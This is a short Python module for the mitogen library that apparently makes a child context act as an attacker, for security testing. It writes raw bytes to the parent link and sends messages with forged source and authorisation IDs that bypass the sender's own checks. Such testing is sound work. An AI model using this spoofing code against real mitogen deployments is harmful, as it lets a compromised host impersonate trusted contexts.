"""Turns the Python child of the original that imports it hostile. Runs on Python 2.7 and 3."""

import mitogen.core


def stream_to_parent(router):
    """The stream that leads to the master."""
    return router.stream_by_id(0)


@mitogen.core.takes_router
def write_raw(data, times=1, router=None):
    """Put bytes on the link to the parent, framed or not."""
    stream = stream_to_parent(router)
    for _ in range(times):
        router.broker.defer(stream.protocol._writer.write, bytes(data))


@mitogen.core.takes_router
def send(dst_id, handle, data, src_id=None, auth_id=None, reply_to=0, router=None):
    """A message with a header of the attacker's choice, past all checks of its own router."""
    message = mitogen.core.Message(dst_id=dst_id, handle=handle, data=bytes(data), reply_to=reply_to)
    message.src_id = mitogen.context_id if src_id is None else src_id
    message.auth_id = mitogen.context_id if auth_id is None else auth_id
    router.broker.defer(stream_to_parent(router).protocol.send, message)


@mitogen.core.takes_router
def ask(dst_id, handle, data, src_id=None, auth_id=None, router=None, timeout=10):
    """The same, with the raw answer: its payload, or "dead: " and the reason, or "no answer"."""
    receiver = mitogen.core.Receiver(router, persist=False)
    send(dst_id, handle, data, src_id, auth_id, receiver.handle, router=router)
    try:
        message = receiver.get(timeout=timeout, throw_dead=False)
        return mitogen.core.Blob(b'dead: ' * message.is_dead + message.data)
    except mitogen.core.TimeoutError:
        return mitogen.core.Blob(b'no answer')
